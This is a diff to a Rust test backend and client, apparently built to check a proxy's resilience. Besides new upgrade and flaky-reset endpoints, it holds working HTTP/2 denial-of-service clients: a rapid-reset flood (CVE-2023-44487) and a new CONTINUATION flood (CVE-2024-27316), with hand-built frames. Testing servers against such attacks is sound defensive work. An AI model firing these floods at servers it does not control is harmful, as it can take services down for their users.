@@ -9,9 +9,12 @@
 //! - `GET /count` — how many requests this server has answered;
 //! - `GET /status/N` — answers status N;
 //! - `GET /flaky` — 503 and 200 in turn, starting with 503;
+//! - `GET /flaky-reset` — drops the connection unanswered and answers 200 in turn, starting
+//!   with the drop;
 //! - `GET /delay/MS` — answers after MS milliseconds;
 //! - `/echo` (any method) — the request line as received, then its headers, one per line;
 //! - `POST /control/fail`, `DELETE /control/fail` — answer every other request 500, or stop;
+//! - `GET /upgrade` with `Upgrade: mesh-echo` — switches protocols (101) and echoes every byte;
 //! - `POST /mesh.test.Echo/Unary` and `/mesh.test.Echo/Stream` — gRPC: echo each message, with
 //!   `grpc-status: 0` in the trailers; the stream answers each message as it arrives.
 //!
@@ -87,6 +90,23 @@ enum Cmd {
         #[arg(long)]
         input: std::path::PathBuf,
     },
+    /// HTTP/2 CONTINUATION flood: one HEADERS frame without END_HEADERS, then up to FRAMES
+    /// CONTINUATION frames of 16 KiB each that never end the block; prints JSON with how many
+    /// went out before the server stopped it, and its GOAWAY, if any.
+    ContinuationFlood {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 10_000)]
+        frames: u32,
+    },
+    /// Asks `/upgrade` to switch to the echo protocol, then sends MESSAGES lines, each after the
+    /// previous came back; prints JSON with the status and the lines echoed.
+    Upgrade {
+        #[arg(long)]
+        addr: SocketAddr,
+        #[arg(long, default_value_t = 10)]
+        messages: usize,
+    },
     /// HTTP/2 rapid reset: opens STREAMS streams, cancelling each at once; prints JSON with the
     /// GOAWAY the server sent, if any.
     RapidReset {
@@ -159,8 +179,13 @@ fn status(code: u16, msg: &str) -> Response<Body> {
 async fn handle(
     req: Request<hyper::body::Incoming>,
     app: Arc<App>,
-) -> Result<Response<Body>, Infallible> {
+) -> Result<Response<Body>, std::io::Error> {
     let path = req.uri().path().to_string();
+    if path == "/flaky-reset" && app.flaky.fetch_add(1, Ordering::Relaxed).is_multiple_of(2) {
+        // An error from the service makes hyper close the connection without an answer.
+        app.count.fetch_add(1, Ordering::Relaxed);
+        return Err(std::io::Error::other("flaky-reset: dropping this one"));
+    }
     let control = path == "/count" || path.starts_with("/control/");
     // `/count` and `/control` are not counted, so asking does not change the answer.
     if !control {
@@ -183,6 +208,7 @@ async fn handle(
 async fn route(req: Request<hyper::body::Incoming>, app: &App, path: &str) -> Response<Body> {
     match (req.method().clone(), path) {
         (Method::GET, "/") => Response::new(full(vec![b'x'; 1024])),
+        (Method::GET, "/upgrade") => switch_to_echo(req),
         (Method::GET, "/count") => {
             Response::new(full(app.count.load(Ordering::Relaxed).to_string()))
         }
@@ -194,6 +220,7 @@ async fn route(req: Request<hyper::body::Incoming>, app: &App, path: &str) -> Re
             app.fail.store(false, Ordering::Relaxed);
             status(200, "healthy")
         }
+        (Method::GET, "/flaky-reset") => status(200, "flaky-reset: fine this time"),
         (Method::GET, "/flaky") => {
             if app.flaky.fetch_add(1, Ordering::Relaxed).is_multiple_of(2) {
                 status(503, "flaky: failing this time")
@@ -246,6 +273,79 @@ async fn route(req: Request<hyper::body::Incoming>, app: &App, path: &str) -> Re
     }
 }
 
+/// Answers 101 and echoes the upgraded connection's bytes until it closes.
+fn switch_to_echo(mut req: Request<hyper::body::Incoming>) -> Response<Body> {
+    let wants = req
+        .headers()
+        .get(hyper::header::UPGRADE)
+        .is_some_and(|v| v.as_bytes().eq_ignore_ascii_case(b"mesh-echo"));
+    if !wants {
+        return status(426, "upgrade to mesh-echo");
+    }
+    let on = hyper::upgrade::on(&mut req);
+    tokio::spawn(async move {
+        if let Ok(up) = on.await {
+            let (mut r, mut w) = tokio::io::split(TokioIo::new(up));
+            let _ = tokio::io::copy(&mut r, &mut w).await;
+        }
+    });
+    let mut r = status(101, "");
+    r.headers_mut().insert(
+        hyper::header::UPGRADE,
+        hyper::header::HeaderValue::from_static("mesh-echo"),
+    );
+    r.headers_mut().insert(
+        hyper::header::CONNECTION,
+        hyper::header::HeaderValue::from_static("upgrade"),
+    );
+    *r.body_mut() = full(Bytes::new());
+    r
+}
+
+/// The client side of `/upgrade`.
+fn upgrade(addr: SocketAddr, messages: usize) -> anyhow::Result<()> {
+    use std::io::{BufRead, Write};
+    let s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
+    s.set_read_timeout(Some(Duration::from_secs(5)))?;
+    let mut w = s.try_clone()?;
+    let mut r = std::io::BufReader::new(s);
+    w.write_all(
+        format!("GET /upgrade HTTP/1.1\r\nHost: {addr}\r\nConnection: Upgrade\r\nUpgrade: mesh-echo\r\n\r\n")
+            .as_bytes(),
+    )?;
+    let mut head = String::new();
+    loop {
+        let mut line = String::new();
+        if r.read_line(&mut line)? == 0 || line == "\r\n" {
+            break;
+        }
+        head.push_str(&line);
+    }
+    let status: u16 = head
+        .split_whitespace()
+        .nth(1)
+        .and_then(|c| c.parse().ok())
+        .unwrap_or(0);
+    let mut echoed = 0;
+    if status == 101 {
+        for i in 0..messages {
+            let msg = format!("message {i}\n");
+            w.write_all(msg.as_bytes())?;
+            let mut back = String::new();
+            r.read_line(&mut back)?;
+            if back != msg {
+                anyhow::bail!("sent {msg:?}, got {back:?} back");
+            }
+            echoed += 1;
+        }
+    }
+    println!(
+        "{}",
+        serde_json::json!({"status": status, "echoed": echoed, "head": head})
+    );
+    Ok(())
+}
+
 fn bad(msg: &str) -> Response<Body> {
     status(400, msg)
 }
@@ -268,7 +368,7 @@ async fn serve(port: u16, name: String, delay_ms: u64) -> anyhow::Result<()> {
         tokio::spawn(async move {
             let svc = service_fn(move |req| handle(req, app.clone()));
             let _ = hyper_util::server::conn::auto::Builder::new(TokioExecutor::new())
-                .serve_connection(TokioIo::new(stream), svc)
+                .serve_connection_with_upgrades(TokioIo::new(stream), svc)
                 .await;
         });
     }
@@ -613,46 +713,77 @@ fn raw(addr: SocketAddr, input: &std::path::Path) -> anyhow::Result<()> {
     Ok(())
 }
 
+/// An HTTP/2 connection for the attacker clients: the preface and SETTINGS are sent, and a
+/// thread watches for the server's GOAWAY (its error code) or the connection's end.
+struct H2Attack {
+    s: std::net::TcpStream,
+    goaway: std::thread::JoinHandle<Option<u32>>,
+}
+
+impl H2Attack {
+    fn open(addr: SocketAddr) -> anyhow::Result<Self> {
+        use std::io::{Read, Write};
+        let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
+        s.set_nodelay(true)?;
+        let mut reader = s.try_clone()?;
+        reader.set_read_timeout(Some(Duration::from_secs(10)))?;
+        let goaway = std::thread::spawn(move || -> Option<u32> {
+            let mut head = [0u8; 9];
+            loop {
+                reader.read_exact(&mut head).ok()?;
+                let len = (usize::from(head[0]) << 16)
+                    | (usize::from(head[1]) << 8)
+                    | usize::from(head[2]);
+                let mut payload = vec![0; len];
+                reader.read_exact(&mut payload).ok()?;
+                if head[3] == 0x7 && len >= 8 {
+                    return Some(u32::from_be_bytes([
+                        payload[4], payload[5], payload[6], payload[7],
+                    ]));
+                }
+            }
+        });
+        let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
+        out.extend(h2_frame(0x4, 0, 0, &[]));
+        s.write_all(&out)?;
+        Ok(Self { s, goaway })
+    }
+
+    /// HPACK for GET http://<addr>/: static indexes, then :authority as a literal.
+    fn request_headers(addr: SocketAddr) -> Vec<u8> {
+        let mut headers = vec![0x82, 0x86, 0x84, 0x01];
+        let authority = addr.to_string();
+        headers.push(authority.len() as u8);
+        headers.extend_from_slice(authority.as_bytes());
+        headers
+    }
+
+    fn finish(self, sent: u32, what: &str) {
+        drop(self.s);
+        let goaway = self.goaway.join().ok().flatten();
+        println!(
+            "{}",
+            serde_json::json!({what: sent, "goaway": goaway.is_some(), "error_code": goaway})
+        );
+    }
+}
+
+fn h2_frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
+    let mut f = Vec::with_capacity(9 + payload.len());
+    f.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
+    f.extend_from_slice(&[kind, flags]);
+    f.extend_from_slice(&stream.to_be_bytes());
+    f.extend_from_slice(payload);
+    f
+}
+
 /// Opens and cancels HTTP/2 streams as fast as it can (CVE-2023-44487).
 fn rapid_reset(addr: SocketAddr, streams: u32) -> anyhow::Result<()> {
-    use std::io::{Read, Write};
-    let mut s = std::net::TcpStream::connect_timeout(&addr, Duration::from_secs(5))?;
-    s.set_nodelay(true)?;
-    let mut reader = s.try_clone()?;
-    reader.set_read_timeout(Some(Duration::from_secs(10)))?;
-    let seen = std::thread::spawn(move || -> Option<u32> {
-        let mut head = [0u8; 9];
-        loop {
-            reader.read_exact(&mut head).ok()?;
-            let len =
-                (usize::from(head[0]) << 16) | (usize::from(head[1]) << 8) | usize::from(head[2]);
-            let mut payload = vec![0; len];
-            reader.read_exact(&mut payload).ok()?;
-            if head[3] == 0x7 && len >= 8 {
-                return Some(u32::from_be_bytes([
-                    payload[4], payload[5], payload[6], payload[7],
-                ]));
-            }
-        }
-    });
-    let frame = |kind: u8, flags: u8, stream: u32, payload: &[u8]| {
-        let mut f = Vec::with_capacity(9 + payload.len());
-        f.extend_from_slice(&(payload.len() as u32).to_be_bytes()[1..]);
-        f.extend_from_slice(&[kind, flags]);
-        f.extend_from_slice(&stream.to_be_bytes());
-        f.extend_from_slice(payload);
-        f
-    };
-    let mut out = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".to_vec();
-    out.extend(frame(0x4, 0, 0, &[]));
-    s.write_all(&out)?;
-    // HPACK: :method GET, :scheme http, :path / (static indexes), :authority as a literal.
-    let mut headers = vec![0x82, 0x86, 0x84, 0x01];
-    let authority = addr.to_string();
-    headers.push(authority.len() as u8);
-    headers.extend_from_slice(authority.as_bytes());
+    use std::io::Write;
+    let mut a = H2Attack::open(addr)?;
+    let headers = H2Attack::request_headers(addr);
     let mut sent = 0;
-    'outer: for batch in 0..streams.div_ceil(100) {
+    for batch in 0..streams.div_ceil(100) {
         let mut out = Vec::new();
         for i in 0..100 {
             let n = batch * 100 + i;
@@ -660,19 +791,35 @@ fn rapid_reset(addr: SocketAddr, streams: u32) -> anyhow::Result<()> {
                 break;
             }
             let id = 2 * n + 1;
-            out.extend(frame(0x1, 0x5, id, &headers));
-            out.extend(frame(0x3, 0, id, &8u32.to_be_bytes()));
+            out.extend(h2_frame(0x1, 0x5, id, &headers));
+            out.extend(h2_frame(0x3, 0, id, &8u32.to_be_bytes()));
         }
-        if s.write_all(&out).is_err() {
-            break 'outer;
+        if a.s.write_all(&out).is_err() {
+            break;
         }
         sent += 100.min(streams - batch * 100);
     }
-    let goaway = seen.join().ok().flatten();
-    println!(
-        "{}",
-        serde_json::json!({"sent_streams": sent, "goaway": goaway.is_some(), "error_code": goaway})
-    );
+    a.finish(sent, "sent_streams");
+    Ok(())
+}
+
+/// Sends a header block that never ends (CVE-2024-27316 and kin).
+fn continuation_flood(addr: SocketAddr, frames: u32) -> anyhow::Result<()> {
+    use std::io::Write;
+    let mut a = H2Attack::open(addr)?;
+    // END_STREAM without END_HEADERS, so CONTINUATION frames must follow.
+    a.s.write_all(&h2_frame(0x1, 0x1, 1, &H2Attack::request_headers(addr)))?;
+    // Each block fragment repeats an indexed header (`accept-encoding: gzip, deflate`): tiny on
+    // the wire, about 50 bytes each in the decoded list.
+    let fragment = vec![0x90u8; 16 * 1024];
+    let mut sent = 0;
+    for _ in 0..frames {
+        if a.s.write_all(&h2_frame(0x9, 0, 1, &fragment)).is_err() {
+            break;
+        }
+        sent += 1;
+    }
+    a.finish(sent, "sent_frames");
     Ok(())
 }
 
@@ -698,5 +845,7 @@ fn main() -> anyhow::Result<()> {
         }
         Cmd::Raw { addr, input } => raw(addr, &input),
         Cmd::RapidReset { addr, streams } => rapid_reset(addr, streams),
+        Cmd::Upgrade { addr, messages } => upgrade(addr, messages),
+        Cmd::ContinuationFlood { addr, frames } => continuation_flood(addr, frames),
     }
 }
